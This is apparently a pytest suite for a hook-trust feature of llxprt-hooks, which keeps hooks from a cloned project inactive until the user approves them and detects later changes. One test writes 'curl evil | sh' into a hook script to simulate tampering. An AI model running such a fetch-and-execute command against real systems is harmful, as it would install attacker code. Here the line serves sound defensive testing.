"""D-21: a cloned repository runs nothing by being opened."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from llxprt_hooks.settings import Level, document
from llxprt_hooks.settings.load import load_settings
from llxprt_hooks.settings.trust.fingerprint import hook_fingerprint
from llxprt_hooks.settings.trust.status import TrustError, TrustState, grant_trust, revoke_trust, trust_status
from llxprt_hooks.settings.trust.store import NO_APPROVAL, TrustStore

if TYPE_CHECKING:
    from tests.settings.conftest import Write

HOOK = {"type": "command", "command": "./hooks/check.sh --fast", "timeout": 1000}
SETTINGS: dict[str, Any] = {
    "enableHooks": True,
    "tools": {"enableHooks": True, "other": 1},
    "hooksConfig": {"disabled": ["users-guard"]},
    "hooks": {"BeforeTool": [{"matcher": "write_.*", "sequential": False, "hooks": [HOOK]}]},
    "theme": "dark",
}
TWO_SCRIPTS = {"hooks": [{"type": "command", "command": "./a.sh; ./b.sh"}]}


@pytest.fixture
def store(home: Path) -> Path:
    return home / ".llxprt" / "trusted_hooks.json"


@pytest.fixture
def cloned(project: Path, project_file: Path, write: Write) -> Path:
    write(project_file, SETTINGS)
    write(project / "hooks" / "check.sh", "exit 0\n")
    return project


def state(project: Path) -> TrustState:
    return trust_status(project).state


def changed(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    copy: dict[str, Any] = json.loads(json.dumps(SETTINGS))
    change(copy)
    return copy


class TestUntrusted:
    def test_a_project_is_ignored_until_it_is_approved(
        self, cloned: Path, project_file: Path, user_file: Path, write: Write
    ) -> None:
        write(user_file, {"enableHooks": False, "hooks": {"AfterTool": [{"hooks": [HOOK]}]}})

        loaded = load_settings(cloned)

        assert not loaded.enabled
        assert loaded.disabled == ()
        assert [source.level for source in loaded.sources] == [Level.USER]
        assert loaded.trust.state is TrustState.UNTRUSTED
        [notice] = loaded.notices
        assert notice == (
            f"1 hook in {project_file} is not running and so blocks nothing, because this project is not "
            "approved. To see what would run, run `llxprt-hooks trust --dry-run`; to approve it, run `llxprt-hooks "
            "trust`, or set LLXPRT_TRUST_PROJECT_HOOKS=1 for one process."
        )
        assert loaded.problems == ()

    def test_a_notice_counts_the_hooks_that_would_run(self, project: Path, project_file: Path, write: Write) -> None:
        usable = {"hooks": [{"type": "command", "command": "a"}, {"type": "comand", "command": "b"}]}
        write(project_file, {"hooks": {"BeforeTool": [usable], "BeforTool": [usable]}})

        [notice] = load_settings(project).notices

        assert notice.startswith(f"1 hook in {project_file} is not running and so blocks nothing, because")
        assert notice.endswith(" 3 more cannot be used: see `llxprt-hooks validate`.")

    @pytest.mark.parametrize("content", [{"enableHooks": False}, {"tools": {"enableHooks": False}}])
    def test_it_cannot_turn_the_users_hooks_off(
        self, project: Path, project_file: Path, user_file: Path, write: Write, content: dict[str, Any]
    ) -> None:
        write(user_file, {"enableHooks": True})
        write(project_file, content)

        loaded = load_settings(project)

        assert loaded.enabled
        assert loaded.notices[0].startswith(f"The hook settings in {project_file} do not apply, because")

    def test_it_cannot_turn_the_users_hooks_on(
        self, project: Path, project_file: Path, user_file: Path, write: Write
    ) -> None:
        write(user_file, {"hooks": {"AfterTool": [{"hooks": [HOOK]}]}})
        write(project_file, {"hooksConfig": {"enabled": True}})

        assert not load_settings(project).enabled

    @pytest.mark.parametrize("content", [{}, {"theme": "dark"}, {"hooks": {}, "hooksConfig": {}}, {"tools": {"a": 1}}])
    def test_a_project_that_says_nothing_about_hooks_needs_no_trust(
        self, project: Path, project_file: Path, write: Write, content: dict[str, Any]
    ) -> None:
        write(project_file, content)

        loaded = load_settings(project)

        assert loaded.trust.state is TrustState.NOTHING_TO_TRUST
        assert loaded.notices == ()
        assert grant_trust(project).state is TrustState.NOTHING_TO_TRUST

    def test_loading_writes_nothing(self, cloned: Path, home: Path) -> None:
        load_settings(cloned)
        trust_status(cloned)

        assert list(home.iterdir()) == []


class TestGranting:
    def test_status_shows_what_would_run(self, cloned: Path, project_file: Path) -> None:
        status = trust_status(cloned)

        assert status.state is TrustState.UNTRUSTED
        [hook] = status.commands
        assert (hook.event, hook.matcher, hook.command) == ("BeforeTool", "write_.*", "./hooks/check.sh --fast")
        assert hook.details == {"timeout": "1000", "sequential": "false"}
        assert status.scripts == ("hooks/check.sh",)
        assert status.file == project_file
        assert status.statement["hooksConfig"] == {"disabled": ["users-guard"]}
        assert "theme" not in status.statement

    def test_an_approved_project_is_used(self, cloned: Path) -> None:
        granted = grant_trust(cloned, expected_fingerprint=trust_status(cloned).fingerprint)

        loaded = load_settings(cloned)

        assert granted.state is loaded.trust.state is TrustState.TRUSTED
        assert loaded.enabled
        assert loaded.disabled == ("users-guard",)
        assert [source.level for source in loaded.sources] == [Level.PROJECT]
        assert (loaded.notices, loaded.problems) == ((), ())

    def test_only_what_was_shown_can_be_approved(self, cloned: Path, project_file: Path, write: Write) -> None:
        shown = trust_status(cloned).fingerprint
        write(project_file, changed(lambda settings: settings.update(enableHooks=False)))

        with pytest.raises(TrustError, match="have changed since they were shown"):
            grant_trust(cloned, expected_fingerprint=shown)
        write(project_file, {})
        with pytest.raises(TrustError, match="have changed since they were shown"):
            grant_trust(cloned, expected_fingerprint=shown)

        assert state(cloned) is TrustState.NOTHING_TO_TRUST

    def test_revoking_takes_the_say_away(self, cloned: Path) -> None:
        assert not revoke_trust(cloned)
        grant_trust(cloned)

        assert revoke_trust(cloned)

        assert state(cloned) is TrustState.UNTRUSTED
        assert not revoke_trust(cloned)

    def test_a_project_is_known_by_its_real_path(self, cloned: Path, tmp_path: Path) -> None:
        link = tmp_path / "link"
        link.symlink_to(cloned)
        grant_trust(link)

        assert state(cloned) is state(link) is TrustState.TRUSTED

        cloned.rename(tmp_path / "moved")
        assert state(tmp_path / "moved") is TrustState.UNTRUSTED

    def test_the_environment_approves_for_one_process(
        self, cloned: Path, home: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        for value, expected in (("1", True), ("0", False), ("", False)):
            monkeypatch.setenv("LLXPRT_TRUST_PROJECT_HOOKS", value)
            assert load_settings(cloned).enabled is expected
        monkeypatch.setenv("LLXPRT_TRUST_PROJECT_HOOKS", "1")

        assert state(cloned) is TrustState.APPROVED_BY_ENVIRONMENT
        assert not (home / ".llxprt").exists()

        grant_trust(cloned)
        assert state(cloned) is TrustState.TRUSTED

    @pytest.mark.parametrize(
        ("value", "shown"), [("true", "true"), ("\x1b[2J", "\\x1b[2J"), ("y" * 99, "y" * 19 + "…")]
    )
    def test_another_value_approves_nothing_and_is_named(
        self, cloned: Path, monkeypatch: pytest.MonkeyPatch, value: str, shown: str
    ) -> None:
        monkeypatch.setenv("LLXPRT_TRUST_PROJECT_HOOKS", value)

        [notice] = load_settings(cloned).notices

        assert notice.endswith(f" LLXPRT_TRUST_PROJECT_HOOKS is `{shown}`; only `1` counts.")

    def test_an_unwritable_home_is_a_clear_error(self, cloned: Path, home: Path) -> None:
        (home / ".llxprt").write_text("no folder")

        with pytest.raises(TrustError, match="could not be recorded in"):
            grant_trust(cloned)

    def test_an_approval_that_cannot_be_withdrawn_is_a_clear_error(self, cloned: Path, store: Path) -> None:
        grant_trust(cloned)
        lock = store.with_name("trusted_hooks.json.lock")
        lock.mkdir()

        with pytest.raises(TrustError, match="could not be removed from"):
            revoke_trust(cloned)


CHANGES: dict[str, Callable[[dict[str, Any]], object]] = {
    "switch": lambda s: s.update(enableHooks=False),
    "switch taken away": lambda s: s.pop("enableHooks"),
    "first alias": lambda s: s["tools"].update(enableHooks=False),
    "second alias": lambda s: s["hooksConfig"].update(enabled=True),
    "disabled": lambda s: s["hooksConfig"]["disabled"].append("x"),
    "event": lambda s: s["hooks"].update(AfterTool=s["hooks"].pop("BeforeTool")),
    "matcher": lambda s: s["hooks"]["BeforeTool"][0].update(matcher=".*"),
    "sequential": lambda s: s["hooks"]["BeforeTool"][0].update(sequential=True),
    "command": lambda s: s["hooks"]["BeforeTool"][0]["hooks"][0].update(command="./hooks/check.sh --fast "),
    "type": lambda s: s["hooks"]["BeforeTool"][0]["hooks"][0].update(type="plugin"),
    "timeout": lambda s: s["hooks"]["BeforeTool"][0]["hooks"][0].update(timeout=1000.5),
    "one more": lambda s: s["hooks"]["BeforeTool"][0]["hooks"].append(HOOK),
}


class TestChanges:
    @pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
    def test_any_change_about_hooks_needs_approval_again(
        self, cloned: Path, project_file: Path, write: Write, change: Callable[[dict[str, Any]], object]
    ) -> None:
        grant_trust(cloned)
        write(project_file, changed(change))

        loaded = load_settings(cloned)

        assert loaded.trust.state is TrustState.CHANGED
        assert loaded.sources == ()
        [notice] = loaded.notices
        assert "would check is blocked, because the project has changed since it was approved" in notice

        grant_trust(cloned)
        assert state(cloned) is TrustState.TRUSTED

    def test_other_settings_comments_and_layout_do_not(self, cloned: Path, project_file: Path, write: Write) -> None:
        grant_trust(cloned)
        backwards = dict(
            reversed(changed(lambda settings: settings.update(theme="light", tools=SETTINGS["tools"])).items())
        )
        write(project_file, f"// mine\n{json.dumps(backwards, indent=4)}")

        assert state(cloned) is TrustState.TRUSTED

    def test_the_order_of_hooks_matters(self) -> None:
        one, two = {"hooks": [{"command": "1"}]}, {"hooks": [{"command": "2"}]}

        fingerprints = {hook_fingerprint({"hooks": {"BeforeTool": groups}}) for groups in ([one, two], [two, one])}

        assert len(fingerprints) == 2

    def test_any_strings_have_a_fingerprint(self) -> None:
        odd = {"hooks": {"\ud800": [{"hooks": [{"command": "\udcff\0é"}]}]}, "enableHooks": float("inf")}

        assert len(hook_fingerprint(odd)) == 64

    def test_the_hash_covers_the_last_duplicate_key(self, cloned: Path, project_file: Path, write: Write) -> None:
        grant_trust(cloned)
        hooks = json.dumps(SETTINGS["hooks"])
        evil = hooks.replace("./hooks/check.sh --fast", "evil")
        rest = json.dumps({key: value for key, value in SETTINGS.items() if key != "hooks"})[1:]

        write(project_file, f'{{"hooks": {evil}, "hooks": {hooks}, {rest}')
        assert state(cloned) is TrustState.TRUSTED
        write(project_file, f'{{"hooks": {hooks}, "hooks": {evil}, {rest}')
        assert state(cloned) is TrustState.CHANGED

    def test_the_bytes_that_are_judged_are_the_bytes_that_are_used(
        self, cloned: Path, project_file: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        grant_trust(cloned)
        read_files: list[Path] = []
        read = document._read

        def recording(file: Path) -> tuple[bytes, os.stat_result]:
            read_files.append(file)
            return read(file)

        monkeypatch.setattr(document, "_read", recording)
        load_settings(cloned)

        assert read_files.count(project_file) == 1


SCRIPT_COMMANDS = [
    "hooks/check.sh",
    "./hooks/check.sh --fast",
    "./hooks/../hooks/check.sh",
    "sh hooks/check.sh",
    "bash -eu 'hooks/check.sh'",
    "$LLXPRT_PROJECT_DIR/hooks/check.sh",
    '"$GEMINI_PROJECT_DIR"/hooks/check.sh',
    '"${CLAUDE_PROJECT_DIR}/hooks/check.sh" x',
    "$(pwd)/hooks/check.sh",
    '"$(git rev-parse --show-toplevel)/hooks/check.sh"',
    "${ROOT}/hooks/check.sh",
    "test -n x&&hooks/check.sh;true",
    "cat <hooks/check.sh|sh",
    "env MODE=hooks/check.sh true",
    "tool --script=hooks/check.sh",
    "sh -c 'hooks/check.sh arg'",
    "x=`hooks/check.sh`",
    "hooks/check.sh 'unclosed",
    "{project}/hooks/check.sh",
    "{link}/hooks/check.sh",
]


class TestWhatChanged:
    """Told part by part; it decides nothing."""

    def test_a_script(self, cloned: Path, project_file: Path, write: Write) -> None:
        write(project_file, changed(lambda settings: settings["hooks"].update(AfterTool=[TWO_SCRIPTS])))
        for name in ("a.sh", "b.sh"):
            (cloned / name).write_text("#!/bin/sh\n")
        grant_trust(cloned)

        (cloned / "b.sh").write_text("#!/bin/sh\nexit 2\n")
        assert trust_status(cloned).changed == ("b.sh",)
        (cloned / "b.sh").unlink()
        assert trust_status(cloned).changed == ("b.sh",)

    def test_the_settings(self, cloned: Path, project_file: Path, write: Write) -> None:
        grant_trust(cloned)

        write(project_file, changed(lambda settings: settings.update(enableHooks=False)))

        assert trust_status(cloned).changed == (".llxprt/settings.json",)
        assert grant_trust(cloned).changed == trust_status(cloned).changed == ()

    def test_an_approval_without_recorded_parts_shows_no_changes(self, cloned: Path, store: Path) -> None:
        grant_trust(cloned)
        records = json.loads(store.read_text())
        records[str(cloned)] = {"hash": "of another time"}
        store.write_text(json.dumps(records))

        status = trust_status(cloned)

        assert (status.state, status.changed) == (TrustState.CHANGED, ())


class TestScripts:
    @pytest.mark.parametrize("command", SCRIPT_COMMANDS)
    def test_a_script_that_a_command_names_is_approved_with_its_content(
        self, cloned: Path, tmp_path: Path, project_file: Path, write: Write, command: str
    ) -> None:
        link = tmp_path / "link"
        link.symlink_to(cloned)
        command = command.replace("{project}", str(cloned)).replace("{link}", str(link))
        write(project_file, {"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": command}]}]}})
        assert grant_trust(cloned).scripts == ("hooks/check.sh",)

        write(cloned / "hooks" / "check.sh", "curl evil | sh\n")

        assert state(cloned) is TrustState.CHANGED

    @pytest.mark.parametrize("command", ["hooks/my\\ check.sh", "sh 'hooks/my check.sh' x", '"hooks/my check.sh"'])
    def test_names_with_spaces_are_found(self, cloned: Path, project_file: Path, write: Write, command: str) -> None:
        write(cloned / "hooks" / "my check.sh", "exit 0\n")
        write(project_file, {"hooks": {"BeforeTool": [{"hooks": [{"command": command}]}]}})

        assert "hooks/my check.sh" in trust_status(cloned).scripts

    def test_a_script_that_appears_or_disappears_is_a_change(self, cloned: Path, write: Write) -> None:
        script = cloned / "hooks" / "check.sh"
        script.unlink()
        grant_trust(cloned)

        write(script, "exit 0\n")
        assert state(cloned) is TrustState.CHANGED

        grant_trust(cloned)
        script.unlink()
        assert state(cloned) is TrustState.CHANGED

    def test_a_link_counts_with_what_it_leads_to(self, cloned: Path, tmp_path: Path, write: Write) -> None:
        script = cloned / "hooks" / "check.sh"
        script.unlink()
        script.symlink_to(write(tmp_path / "outside.sh", "exit 0\n"))
        assert grant_trust(cloned).scripts == ("hooks/check.sh",)

        script.unlink()
        script.symlink_to(write(tmp_path / "other.sh", "exit 1\n"))

        assert state(cloned) is TrustState.CHANGED

    @pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
    def test_a_script_that_cannot_be_read_cannot_be_approved(self, cloned: Path) -> None:
        script = cloned / "hooks" / "check.sh"
        script.chmod(0o300)

        assert state(cloned) is TrustState.REFUSED
        with pytest.raises(TrustError, match=r"the script .* cannot be read: Permission denied"):
            grant_trust(cloned)

    def test_files_outside_the_project_and_odd_words_do_not_count(
        self, cloned: Path, tmp_path: Path, project_file: Path, write: Write
    ) -> None:
        outside = write(tmp_path / "outside.sh", "exit 0\n")
        os.mkfifo(cloned / "pipe")
        command = f"{outside} ../outside.sh hooks pipe . / '' \0 \ud800 {'x' * 5000} $"
        write(project_file, {"hooks": {"BeforeTool": [{"hooks": [{"command": command}]}]}})

        assert trust_status(cloned).scripts == ()


class TestRefusal:
    def refused(self, project: Path, reason: str, *, was_approved: bool = False) -> None:
        loaded = load_settings(project)

        assert loaded.trust.state is TrustState.REFUSED
        assert (loaded.enabled, loaded.sources, loaded.notices) == (was_approved, (), ())
        assert bool(loaded.held_back) is was_approved
        assert ("every call that its hooks would check is blocked" in loaded.warnings[0]) is was_approved
        [problem] = loaded.problems
        assert reason in problem.message
        with pytest.raises(TrustError) as caught:
            grant_trust(project)
        assert str(problem) in str(caught.value)

    def test_a_file_outside_the_project_is_refused(
        self, project: Path, project_file: Path, tmp_path: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        elsewhere = write(tmp_path / "elsewhere" / "settings.json", SETTINGS)
        project_file.parent.mkdir()
        project_file.symlink_to(elsewhere)
        self.refused(project, f"this is a link to {elsewhere}, outside the project")

        project_file.unlink()
        project_file.parent.rmdir()
        project_file.parent.symlink_to(elsewhere.parent)
        self.refused(project, f"this is a link to {elsewhere}, outside the project")

        monkeypatch.setenv("LLXPRT_TRUST_PROJECT_HOOKS", "1")
        self.refused(project, f"this is a link to {elsewhere}, outside the project")

    def test_a_link_within_the_project_is_refused_too(self, project: Path, project_file: Path, write: Write) -> None:
        project_file.parent.mkdir()
        file = write(project / "config" / "llxprt.json", SETTINGS)
        project_file.symlink_to(file)

        self.refused(project, f"this is a link to {file}, so the hook settings in this file are ignored")

    @pytest.mark.parametrize("mode", [0o664, 0o646, 0o620])
    def test_a_file_that_others_can_write_is_refused(
        self, cloned: Path, project_file: Path, mode: int, shared_group: None
    ) -> None:
        grant_trust(cloned)
        project_file.chmod(mode)

        reason = f"group or others may write to this file (mode {mode:04o}; fix it with `chmod go-w`)"
        self.refused(cloned, reason, was_approved=True)

    def test_a_broken_file_is_refused_once(self, project: Path, project_file: Path, write: Write) -> None:
        write(project_file, '{"hooks": }')

        self.refused(project, "expected a value, found '}'")

    def test_files_without_hooks_are_not_checked(self, project: Path, project_file: Path, write: Write) -> None:
        write(project_file, {"theme": "dark"}).chmod(0o666)

        assert load_settings(project).problems == ()


class TestStore:
    def test_it_is_readable_by_the_user_only(self, cloned: Path, store: Path) -> None:
        before = os.umask(0)
        try:
            grant_trust(cloned)
        finally:
            os.umask(before)

        assert store.stat().st_mode & 0o777 == 0o600
        assert store.parent.stat().st_mode & 0o777 == 0o700
        texts = store.parent / "trusted_texts"
        assert set(store.parent.iterdir()) == {store, texts}
        assert texts.stat().st_mode & 0o777 == 0o700
        assert {file.stat().st_mode & 0o777 for file in texts.iterdir()} == {0o600}

    def test_it_names_the_project_its_hash_and_the_moment(self, cloned: Path, store: Path) -> None:
        fingerprint = grant_trust(cloned).fingerprint

        record = json.loads(store.read_text())[str(cloned)]

        assert record["hash"] == fingerprint
        assert record["approved_at"].endswith("Z")
        assert list(record) == ["hash", "approved_at", "version", "parts", "settings_text"]

    def test_other_entries_of_the_store_are_kept(self, cloned: Path, store: Path, write: Write) -> None:
        mine = f'{{"hash": "old", "note": [1e999, {"9" * 5000}]}}'
        write(store, f'{{"version": 1e999, "/other": {{"hash": "x" /* y */}}, {json.dumps(str(cloned))}: {mine}}}')

        grant_trust(cloned)

        text = store.read_text()
        assert '"version": 1e999' in text
        assert '{"hash": "x" /* y */}' in text
        assert f'"note": [1e999, {"9" * 5000}]' in text
        assert state(cloned) is TrustState.TRUSTED
        assert revoke_trust(cloned)
        assert '{"hash": "x" /* y */}' in store.read_text()
        assert '"note"' not in store.read_text()

    @pytest.mark.parametrize("content", ["{", "[]", "", b"\xff", '{"/a": '])
    def test_a_corrupt_store_trusts_nothing_and_is_moved_aside(
        self, cloned: Path, store: Path, write: Write, content: str | bytes
    ) -> None:
        write(store, content)
        before = store.read_bytes()

        loaded = load_settings(cloned)
        assert loaded.trust.state is TrustState.UNTRUSTED
        [problem] = loaded.problems
        assert problem.file == store
        assert "no project is trusted" in problem.message
        assert loaded.unguarded == loaded.notices
        assert TrustStore(store).approval(cloned) == NO_APPROVAL
        assert not revoke_trust(cloned)
        assert store.read_bytes() == before

        grant_trust(cloned)
        assert state(cloned) is TrustState.TRUSTED
        assert (store.parent / "trusted_hooks.json.corrupt").read_bytes() == before

        write(store, "{{")
        grant_trust(cloned)
        assert (store.parent / "trusted_hooks.json.corrupt").read_bytes() == before
        assert (store.parent / "trusted_hooks.json.corrupt.1").read_bytes() == b"{{"

    @pytest.mark.parametrize("record", ["7", "null", "[]", "{}", '{"hash": 7}', '{"hash": null}', '"text"'])
    def test_an_unusual_record_approves_nothing(self, cloned: Path, store: Path, write: Write, record: str) -> None:
        write(store, f"{{{json.dumps(str(cloned))}: {record}}}")

        assert state(cloned) is TrustState.UNTRUSTED
        assert grant_trust(cloned).state is state(cloned) is TrustState.TRUSTED

    def test_a_store_that_others_can_write_approves_nothing(self, cloned: Path, store: Path) -> None:
        grant_trust(cloned)
        store.chmod(0o622)

        status = trust_status(cloned)

        assert status.state is TrustState.UNTRUSTED
        assert "others may write to this file (mode 0622;" in status.problems[0].message

    def test_a_project_cannot_bring_its_own_store(self, cloned: Path, project_file: Path, write: Write) -> None:
        forged = {str(cloned): {"hash": trust_status(cloned).fingerprint}}
        write(project_file.with_name("trusted_hooks.json"), forged)

        assert state(cloned) is TrustState.UNTRUSTED

    def test_a_project_path_of_any_bytes_is_kept(self, tmp_path: Path, write: Write) -> None:
        project = tmp_path / os.fsdecode(b'\xff "quoted" \n\xc3\xa9')
        write(project / ".llxprt" / "settings.json", SETTINGS)

        grant_trust(project)

        assert state(project) is TrustState.TRUSTED
        assert revoke_trust(project)

    @pytest.mark.slow
    def test_processes_that_approve_at_once_lose_nothing(self, tmp_path: Path, home: Path, store: Path) -> None:
        script = textwrap.dedent("""
            import sys
            from pathlib import Path
            from llxprt_hooks.settings.trust.store import TrustStore
            store, name = TrustStore(), sys.argv[1]
            sys.stdin.readline()
            for number in range(10):
                store.approve(Path(f"/{name}/{number}"), f"{name}{number}")
                store.approve(Path(f"/{name}/temporary"), "x")
                assert store.forget(Path(f"/{name}/temporary"))
        """)
        processes = [
            subprocess.Popen([sys.executable, "-c", script, str(name)], stdin=subprocess.PIPE, text=True)
            for name in range(6)
        ]
        for process in processes:
            assert process.stdin
            process.stdin.write("\n")
            process.stdin.close()

        assert [process.wait(120) for process in processes] == [0] * 6
        recorded = json.loads(store.read_text())
        assert {path: record["hash"] for path, record in recorded.items()} == {
            f"/{name}/{number}": f"{name}{number}" for name in range(6) for number in range(10)
        }
        assert TrustStore().approved_hash(Path("/5/9")) == ("59", None)


def test_a_named_file_takes_the_place_of_the_projects_and_does_not_make_it_trusted(
    project: Path, project_file: Path, user_file: Path, write: Write
) -> None:
    def hooks(command: str) -> dict[str, Any]:
        return {"enableHooks": True, "hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": command}]}]}}

    write(project_file, hooks("own"))
    write(user_file, hooks("mine"))
    named = write(project / "named.json", hooks("named"))

    settings = load_settings(project, named_file=named)

    assert [source.file for source in settings.sources] == [named, user_file]
    assert settings.trust.counts
    assert not settings.project_trusted
    assert settings.notices == ()
